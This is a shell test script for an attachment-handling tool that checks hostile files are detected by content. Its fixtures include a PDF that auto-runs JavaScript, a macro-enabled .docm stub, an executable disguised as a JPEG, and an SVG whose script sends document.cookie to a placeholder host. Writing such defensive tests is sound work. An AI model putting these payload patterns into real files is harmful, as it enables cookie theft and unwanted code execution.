#!/usr/bin/env bash
# test_officer_files.sh: hostile attachments are classified by content,
# not by name, when open stores them: a PDF with JavaScript and an open
# action, a .docm with a macro (made with python3's zipfile, deflated as
# Word makes them), an SVG with script, an ELF named photo.jpg. Each is
# flagged in the catalog and by list and show; the ELF loses its .jpg
# (stored as photo.jpg.bin), harmless files keep their names, and nothing
# stored is executable.
source "$(dirname "$0")/lib.sh"
MKENV=$B/tools/off_mkenv
umask 077
cd "$T" || exit 1

printf 'a long test passphrase, not real\n' >pass
"$OFFICER" keygen --out k --passphrase-file pass >/dev/null 2>&1
check "setup: key" test -s k/officer.pub

printf '%%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /JavaScript /JS (app.launchURL("http://x")) >> endobj\n%%%%EOF\n' >statement.pdf
python3 - <<'PY'
import zipfile
with zipfile.ZipFile("letter.docm", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    z.writestr("word/document.xml", "<w:document/>")
    z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()" * 50)
with zipfile.ZipFile("clean.docx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", "<Types/>")
    z.writestr("word/document.xml", "<w:document/>")
PY
printf '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://x/?"+document.cookie)</script></svg>\n' >map.svg
cp "$OFFICER" photo.jpg # a real ELF program
{ printf '\377\330\377\340\0\020JFIF\0'; head -c 5000 /dev/urandom; } >real.jpg
printf 'Меня зовут Анна.\n' >text
mkdir in
expect_exit 0 "seal the hostile attachments" "$MKENV" --bundle k/officer.pub --out in/a.env --text text \
	--attach statement.pdf --attach letter.docm --attach clean.docx --attach map.svg \
	--attach photo.jpg --attach real.jpg
expect_exit 0 "open" "$OFFICER" open --from in --cases cases --key k/officer.sec --passphrase-file pass
F=cases/case-000001/files
check "the ELF named photo.jpg is stored as photo.jpg.bin" cmp -s photo.jpg "$F/photo.jpg.bin"
check "no photo.jpg was stored" test ! -e "$F/photo.jpg"
check "a real JPEG keeps its name" cmp -s real.jpg "$F/real.jpg"
check "the PDF keeps its name (it is a PDF)" cmp -s statement.pdf "$F/statement.pdf"
check "the .docm keeps its name (it is a Word file)" cmp -s letter.docm "$F/letter.docm"
check "nothing stored is executable" test -z "$(find cases -type f -perm /111)"
check "every stored file is 0600" test -z "$(find cases/case-000001 -type f ! -perm 600)"

expect_exit 0 "show --json" "$OFFICER" show 1 --cases cases --json
check "kinds and flags by content" python3 - out <<'PY'
import json, sys
c = json.load(open(sys.argv[1]))
f = {x["name"]: x for x in c["files"]}
def has(name, kind, flag):
    assert f[name]["kind"] == kind, (name, f[name])
    assert (flag in f[name]["flags"]) if flag else f[name]["flags"] == "", (name, f[name])
has("statement.pdf", "pdf", "javascript")
has("statement.pdf", "pdf", "open action")
has("letter.docm", "office", "macros")
has("clean.docx", "office", None)
has("map.svg", "svg", "script")
has("photo.jpg", "executable", "executable")
has("real.jpg", "image", None)
assert f["photo.jpg"]["path"] == "files/photo.jpg.bin"
PY
check "manifest.json records kinds" grep -q '"kind": "office",' cases/case-000001/manifest.json
expect_exit 0 "show" "$OFFICER" show 1 --cases cases
for n in statement.pdf letter.docm map.svg photo.jpg.bin; do
	check "show flags $n" grep -qE "^  RISK .*files/$n" out
done
check "show does not flag the clean docx" grep -qE "^       .*files/clean.docx" out
check "show does not flag the real JPEG" grep -qE "^       .*files/real.jpg" out
expect_exit 0 "list" "$OFFICER" list --cases cases
check "list counts 4 risky of 6 files" grep -qE '^case-000001 .* 6!4 ' out
